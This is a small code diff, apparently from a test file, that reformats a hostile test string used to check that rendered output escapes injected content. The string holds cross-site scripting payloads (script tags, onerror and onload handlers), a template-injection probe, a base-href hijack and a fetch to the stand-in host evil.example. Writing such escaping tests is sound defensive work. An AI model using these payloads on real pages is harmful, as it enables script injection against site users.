@@ -21,7 +21,8 @@ if TYPE_CHECKING:
 _Open = Callable[..., "Page"]
 _PWN = "window.pwned = 1; alert(1); fetch('https://evil.example/')"
 _HARM = (
-    f'{{{{ 7 * 7 }}}}</script></style></title></svg><script>{_PWN}</script><img src=x onerror="{_PWN}">'
+    f"{{{{ 7 * 7 }}}}</script></style></title></svg><script>{_PWN}</script>"
+    f'<img src=x onerror="{_PWN}">'
     f"<svg onload='{_PWN}'><base href=https://evil.example/> \u202e\u2028\x00"
 )
 _BREACH = Breach(metric="date", value=0, expected=1, detail=f"no date {_HARM}")
